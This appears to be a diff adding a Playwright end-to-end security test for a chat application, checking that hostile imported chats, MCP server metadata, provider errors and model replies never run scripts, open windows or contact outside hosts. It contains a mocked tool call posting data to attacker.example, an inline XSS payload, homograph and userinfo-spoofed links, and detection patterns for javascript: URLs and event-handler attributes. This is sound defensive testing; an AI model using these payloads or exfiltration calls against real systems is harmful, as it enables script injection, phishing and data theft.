@@ -1,0 +1,165 @@
+import type { Page } from 'playwright-core';
+import { exportedApp } from '../../support/browser/exported-app';
+import { flowSizes } from '../../support/browser/open-browser';
+import { hostileArchive } from '../../support/samples/hostile-archive';
+import { HOSTILE_MESSAGE, HOSTILE_NAME, XSS_PAYLOADS } from '../../support/samples/hostile-markdown';
+import { startHostileMcpServer, textResult } from '../../support/servers/hostile-mcp-server';
+import { importFile } from '../../support/browser/import-chats';
+import { untilStill } from '../../support/browser/wait-for';
+import { startMockProvider, type MockProvider } from '../../support/servers/mock-provider';
+
+jest.setTimeout(180_000);
+
+const app = exportedApp();
+const TYPE = 'openai-compatible';
+
+let mock: MockProvider;
+let server: Awaited<ReturnType<typeof startHostileMcpServer>>;
+
+beforeAll(async () => {
+  mock = await startMockProvider({ chunkSize: 2_000 });
+  const input = JSON.stringify({ method: 'POST', url: 'https://attacker.example/asked', body: HOSTILE_MESSAGE });
+  const call = { id: 'call_1', name: 'http_request', arguments: input };
+  mock.answer({ match: {}, response: { content: [...XSS_PAYLOADS, HOSTILE_MESSAGE].join('\n\n') } }); // titles too
+  mock.answer({ match: { userMessage: /tool/, hasToolResult: false }, response: { toolCalls: [call] } });
+  mock.answer({
+    match: { userMessage: /fail/ },
+    response: { error: { message: HOSTILE_MESSAGE, type: HOSTILE_NAME }, status: 400 },
+  });
+  server = await startHostileMcpServer({
+    tools: [{ name: 'harmless', title: HOSTILE_NAME, description: HOSTILE_MESSAGE }, { name: HOSTILE_NAME }],
+    onCall: ({ respond }) => respond(textResult(HOSTILE_MESSAGE)),
+    onRequest(request, response) {
+      for (const name of ['origin', 'headers', 'methods']) response.setHeader(`access-control-allow-${name}`, '*');
+      if (request.method === 'OPTIONS') response.writeHead(204).end();
+      return request.method === 'OPTIONS';
+    },
+  });
+});
+afterAll(async () => {
+  await mock.stop();
+  await server.stop();
+});
+
+/** Notices whatever would be the beginning of an attack: a script that ran, a dialog, a window, a request to a stranger. */
+async function watch(page: Page) {
+  const events: string[] = [];
+  const own = [app.at(), mock.url, new URL(server.url).origin];
+  page.on('dialog', (dialog) => {
+    events.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.context().on('page', (other) => events.push(`window: ${other.url()}`));
+  page.on('request', (request) => {
+    const url = request.url();
+    if (/^https?:/.test(url) && !own.some((origin) => url.startsWith(origin))) events.push(`request: ${url}`);
+  });
+  await page.exposeFunction('__noted', (what: string) => events.push(what));
+  await page.addInitScript(`
+    window.__pwn = () => window.__noted('a script ran');
+    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
+      if (blockedURI !== 'eval') window.__noted('CSP: ' + blockedURI); // zod asks once whether it may, and may not
+    });
+  `);
+  return events;
+}
+
+/** What no text may ever become. */
+const planted = (page: Page) =>
+  page.evaluate(() =>
+    [...document.body.querySelectorAll('*')].flatMap((element) => {
+      const isForeign = /^(IFRAME|OBJECT|EMBED|FORM|MARQUEE|TEMPLATE|META|BASE)$/i.test(element.tagName);
+      const bad = [...element.attributes].filter(
+        ({ name, value }) =>
+          /^on/i.test(name) ||
+          (/^(src|srcset|href|xlink:href|action|poster|data)$/i.test(name) &&
+            /attacker\.example|^\s*(javascript|vbscript|data:text)/i.test(value)),
+      );
+      return isForeign || bad.length > 0 ? [element.outerHTML.slice(0, 200)] : [];
+    }),
+  );
+
+it.each(flowSizes('phone'))('whoever writes the words, nothing in them runs, loads or opens (%s)', async (screen) => {
+  const opened = await app.open('/', { screen, expects: /status of 400/ }); // the provider that fails
+  const { page, user } = opened;
+  page.setDefaultTimeout(15_000);
+  const events = await watch(page);
+  const isCalm = async (where: string) => {
+    await untilStill(page);
+    expect({ where, planted: await planted(page), events }).toEqual({ where, planted: [], events: [] });
+  };
+  const visit = async (path: string, testId: string) => {
+    await page.goto(app.at(path));
+    await user.id(testId).first().waitFor();
+    await isCalm(path);
+  };
+
+  await importFile(opened, app.at(), hostileArchive());
+  await isCalm('the import');
+  await visit('/', 'session-item');
+  await visit('/memory', 'memory-note');
+  await visit('/settings/templates', 'template-item');
+  await visit('/settings/agents', 'agent-item');
+  await visit('/settings/tools', 'mcp-server');
+
+  await page.goto(app.at('/search'));
+  await user.id('search-input').fill('needle');
+  await user.id('search-result').first().waitFor();
+  await isCalm('search');
+  await user.id('search-result').first().click();
+  await user.id('message-user').first().waitFor();
+  for (const toggle of ['thinking', 'tool-toggle', 'view-summary']) {
+    await user.id(toggle).first().scrollIntoViewIfNeeded();
+    await user.id(toggle).first().click();
+    await isCalm(toggle);
+  }
+  await page.keyboard.press('Escape');
+  for (let step = 0; step < 4; step += 1) {
+    await user
+      .id('message-user')
+      .first()
+      .hover({ force: true })
+      .catch(() => undefined);
+    await page.mouse.wheel(0, 3_000);
+    await isCalm('the imported chat');
+  }
+
+  await page.goto(app.at('/settings/tools'));
+  await user.id('mcp-add').click();
+  await user.id('mcp-url').fill(server.mcpUrl);
+  await user.id('mcp-save').click();
+  await user.id('mcp-tool-harmless').waitFor();
+  await isCalm('the tools of a server');
+
+  await page.goto(app.at('/settings/providers'));
+  await user.chatWith(
+    { type: TYPE, baseUrl: mock.baseUrlFor(TYPE), apiKey: 'sk-x', name: HOSTILE_NAME.slice(0, 60) },
+    'm<img src=x onerror=__pwn()>',
+    500_000,
+  );
+  await user.send('Say something');
+  await user.id('message-assistant').first().waitFor();
+  await user.idle();
+  await isCalm('an answer');
+  await user.send('Please fail');
+  await user.idle();
+  await isCalm('an error of the provider');
+  await user.send('Use a tool');
+  await user.id('deny-tool').waitFor();
+  await isCalm('a call that waits');
+  await visit('/', 'session-item');
+});
+
+it('shows the host that a link really leads to, and makes no link of what hides one', async () => {
+  const { user } = await app.open('/settings/providers');
+  const words =
+    '[look](https://аpple.com/x), [here](https://google.com@evil.example/), [there](https://exa\u200bmple.com/)';
+  mock.answer({ match: { userMessage: /look/ }, response: { content: words } });
+  await user.chatWith({ type: TYPE, baseUrl: mock.baseUrlFor(TYPE), apiKey: 'sk-x' }, 'some-model', 500_000);
+  await user.send('look');
+  await user.answer('look');
+  await user.idle();
+  expect(await user.id('markdown-link').allInnerTexts()).toEqual(['look']);
+  await user.id('markdown-link').click();
+  expect(await user.id('link-host').innerText()).toBe('xn--pple-43d.com');
+});
